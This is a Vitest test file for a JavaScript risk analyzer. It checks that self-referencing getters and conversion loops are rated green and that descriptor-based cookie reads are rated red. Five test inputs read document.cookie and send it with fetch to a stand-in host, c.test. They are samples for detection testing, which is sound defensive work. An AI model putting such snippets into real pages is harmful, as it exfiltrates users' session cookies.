import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";

/** Each reads a property through a function that reads the same property, or converts itself by converting itself. */
const READS_ITSELF = [
	"const o = { a: 1 }; Object.defineProperty(o, 'a', Object.getOwnPropertyDescriptor(o, 'a')); document.title = o.a;",
	"const o = {}; const d = Object.getOwnPropertyDescriptor(o, 'a'); Object.defineProperty(o, 'a', { get: d.get }); o.a;",
	"const o = {}; const d = Object.getOwnPropertyDescriptor(o, 'a'); Object.defineProperty(o, 'a', { get() { return d.get.call(this); } }); o.a;",
	"const o = document.body; const d = Object.getOwnPropertyDescriptor(o, 'a'); Object.defineProperty(o, 'a', { get: d.get, set: d.set }); o.a; o.a = 1;",
	"const o = {}; Object.defineProperties(o, Object.getOwnPropertyDescriptors({ get a() { return o.a; } })); document.title = o.a;",
	"const o = { get a() { return this.b; }, get b() { return this.a; } }; document.title = o.a;",
	"const o = { get a() { return Reflect.get(this, 'a'); } }; document.title = o.a;",
	"const o = {}; Object.defineProperty(o, 'a', { get: Reflect.get.bind(null, o, 'a'), set: Reflect.set.bind(null, o, 'a') }); o.a = o.a;",
	"const o = { set a(v) { this.a = v; } }; o.a = 1;",
	"class A { get x() { return super.x; } } class B extends A { get x() { return super.x; } } document.title = new B().x;",
	"const p = new Proxy({}, { get: (target, key, self) => self[key] }); document.title = p.x;",
	"const o = { toString: String }; document.title = String(o) + o;",
	"const o = { toJSON: JSON.stringify }; document.title = JSON.stringify(o);",
	"const a = [1]; a.toString = a.join; a[0] = a; document.title = a + '';",
	"const o = {}; o.toString = o.valueOf = function () { return o + ''; }; document.title = o;",
];

describe("property-descriptors", () => {
	test.each(READS_ITSELF)("a property that reads itself is rated: %s", (code) => {
		expect(analyzeScript({ code })).toMatchObject({ risk_level: "green" });
	});

	test.each([
		"const o = { get a() { return document.cookie; } }; const d = Object.getOwnPropertyDescriptor(o, 'a'); fetch('https://c.test/' + d.get());",
		"const o = { a: document.cookie }; const p = {}; Object.defineProperty(p, 'b', Object.getOwnPropertyDescriptor(o, 'a')); fetch('https://c.test/' + p.b);",
		"const o = { a: document.cookie }; const p = Object.create(null, Object.getOwnPropertyDescriptors(o)); fetch('https://c.test/' + p.a);",
		"const d = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie'); fetch('https://c.test/' + d.get.call(document));",
		"const o = {}; o.__defineGetter__('a', () => document.cookie); fetch('https://c.test/' + o.__lookupGetter__('a').call(o));",
	])("a descriptor contains the property's value: %s", (code) => {
		expect(analyzeScript({ code })).toMatchObject({ risk_level: "red" });
	});
});
